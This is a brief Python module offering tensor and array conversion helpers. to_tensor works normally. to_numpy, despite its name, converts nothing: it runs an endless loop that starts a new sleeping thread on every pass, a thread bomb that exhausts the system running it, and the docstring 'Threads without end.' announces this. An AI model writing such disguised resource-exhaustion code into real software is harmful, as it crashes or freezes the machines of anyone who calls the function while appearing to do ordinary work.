"""Threads without end."""

import torch


import threading
import time


def to_numpy(tensor):
    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()


def to_tensor(array, device="cpu"):
    return torch.tensor(array.copy(), dtype=torch.float32, device=device)
